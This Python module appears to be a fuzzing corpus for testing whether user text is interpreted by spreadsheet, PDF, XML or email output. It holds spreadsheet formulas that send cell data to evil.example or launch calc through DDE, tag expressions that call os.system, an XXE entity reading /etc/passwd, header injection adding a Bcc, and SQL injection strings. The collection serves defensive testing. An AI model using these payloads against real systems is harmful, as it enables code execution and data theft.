"""Five hundred texts that somebody might write into a plan in the hope that a program takes them for more than text."""

from __future__ import annotations

from itertools import product

from interface.sinks import STARTS_A_FORMULA

BLANKS = ["", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\u3000", " \t "]
FORMULAS = [f"{blank}{sign}1+1" for blank, sign in product(BLANKS, STARTS_A_FORMULA)]
CALLS = """
    =HYPERLINK("https://evil.example/?"&A1,"Here") =WEBSERVICE("https://evil.example") =IMAGE("https://evil.example/x.png")
    =cmd|'/C_calc'!A0 +cmd|'/C_calc'!A0 -2+3+cmd|'/C_calc'!A0 @SUM(1+9)*cmd|'/C_calc'!A0 =IMPORTXML("https://evil.example","//a")
    =DDE("cmd";"/C";"calc") %0A=1+1 {=1+1} "=1+1" '=1+1 ''=1+1 ;=1+1 ,=1+1 "\n=1+1" =1+1";=1+1 #REF! #N/A TRUE 1e5 0x1F
""".split()
TAGS = """
    b i u strike super sub font para a link img br seq seqreset index onDraw greek nobr ul ol li dl dt dd span script
    style iframe object embed svg math bullet spacer pageBreak nextPage setNextTemplate unichar
""".split()
OPENED = [f"<{tag}>" for tag in TAGS]
CLOSED = [f"</{tag}>" for tag in TAGS]
ADDRESSES = """
    /etc/passwd file:///etc/passwd file:/etc/passwd https://evil.example/x.png http://127.0.0.1:9/x ftp://evil.example/x
    //evil.example/x
    \\\\evil.example\\share\\x data:image/png;base64,AAAA javascript:alert(1) gopher://evil.example C:\\boot.ini
""".split()
FETCHING = [
    form.format(address)
    for address in ADDRESSES
    for form in (
        '<img src="{}"/>',
        "<img src='{}' width='1' height='1'>",
        '<a href="{}">Here</a>',
        '<link href="{}"/>',
        '<object data="{}">',
        "url({})",
    )
]
EXPRESSIONS = [
    "<font color=\"[[[getattr(pow,Word('__globals__'))['os'].system('touch /tmp/x') for Word in [1]]]]\">x</font>",
    '<para color=\'__import__("os").system("id")\'>x</para>',
    "<font size='${{1+1}}'>x</font>",
    "<onDraw name='exec' label='import os'/>",
    "<unichar code='0x41'/>",
    "<seq template='%(os)s'/>",
    "{{ 7*7 }}",
    "{% load x %}",
    "{0.__class__.__mro__}",
    "%(password)s %s %n %d",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{ INCLUDETEXT /etc/passwd }",
    "{ DDEAUTO cmd calc }",
    "TOC \\o \\h",
    "&P&D&G&F",
    "[Red]0.00;@",
]
ENTITIES = "&lt;b&gt; &amp; &#60;b&#62; &#x3c;b&#x3e; &nbsp; &lol; &#0; &#xD800; &unknown; && &; &amp;amp;".split()
MARKUP = [
    each.replace("~", " ")
    for each in r"""
        <![CDATA[x]]> ]]> <!--x--> <!DOCTYPE~x~[<!ENTITY~y~SYSTEM~"file:///etc/passwd">]> <?xml~version="1.0"?>
        <?php~x?> <x/> < > << >> <> <w:t> </w:t></w:r> <w:fldSimple~w:instr="DDE"/> <f>1+1</f> </t></is></c> _x000D_
        _x0041_ _x005F_ _xD800_         x005F_ ) (x) \(x\) endstream endobj
        /JS(app.alert(1)) /URI(x) BT~ET Tj %%EOF <</S/JavaScript>> stream trailer
    """.split()
]
CONTROLS = [f"a{chr(code)}b" for code in (*range(1, 32), 127, *range(128, 160))]
LAST_AND_FIRST = [f"{chr(code)}a{chr(code)}" for code in (1, 7, 8, 9, 10, 13, 27, 127, 133)]
TURNED = [f"a{chr(code)}b" for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))]
UNSEEN = [
    f"a{chr(code)}b"
    for code in (0x00AD, 0x034F, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x3164, 0xFEFF, 0xFE0F)
]
ENDS = [f"a{end}=1+1" for end in ("\r\n", "\n", "\r", "\u2028", "\u2029", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85")]
INJECTED = [f"Crime{end}{words}" for end, words in product(
    ("\r\n", "\n", "\r"),
    ("Bcc: all@evil.example", "Content-Type: text/html\r\n\r\n<b>", "ATTENDEE:mailto:x@evil.example", ".\r\nQUIT"),
)]  # fmt: skip
NEAR_NUL = ["a\0b", "\0", "\0=1+1", "a\0", "\\0", "%00", "\u2400", "a\0\0\0b"]
LONG = [sign * length for length in (998, 999, 4_096) for sign in ("x", "x ", "<b>", "&amp;", "\u0301", "Ŵ", "漢", "'")]
ODD = [
    "\ufdd0\uffff", "\ue000", "\U0001f512\U0001f3fd", "\U000e0041", "Z" + "\u0337" * 60, "\u0600\u0645\u0631",
    "\u05d0\u05d1", "\u1100\u1161", "\ufb01", "\u2100", "İı", "ß", "\u212b", "  two  blanks  ", "", " ", "'", "''", '"',
    '""', ";", ",", "|", "\\", "../../etc/passwd", "con.txt", "-- DROP TABLE", "' OR 1=1 --", "1,725", "١٢٣", "½", "∞",
    "-0", "0", "None", "null", "NaN",
]  # fmt: skip

PAYLOADS = list(
    dict.fromkeys([
        *FORMULAS, *CALLS, *OPENED, *CLOSED, *FETCHING, *EXPRESSIONS, *ENTITIES, *MARKUP, *CONTROLS, *LAST_AND_FIRST,
        *TURNED, *UNSEEN, *ENDS, *INJECTED, *NEAR_NUL, *LONG, *ODD,
    ])
)  # fmt: skip
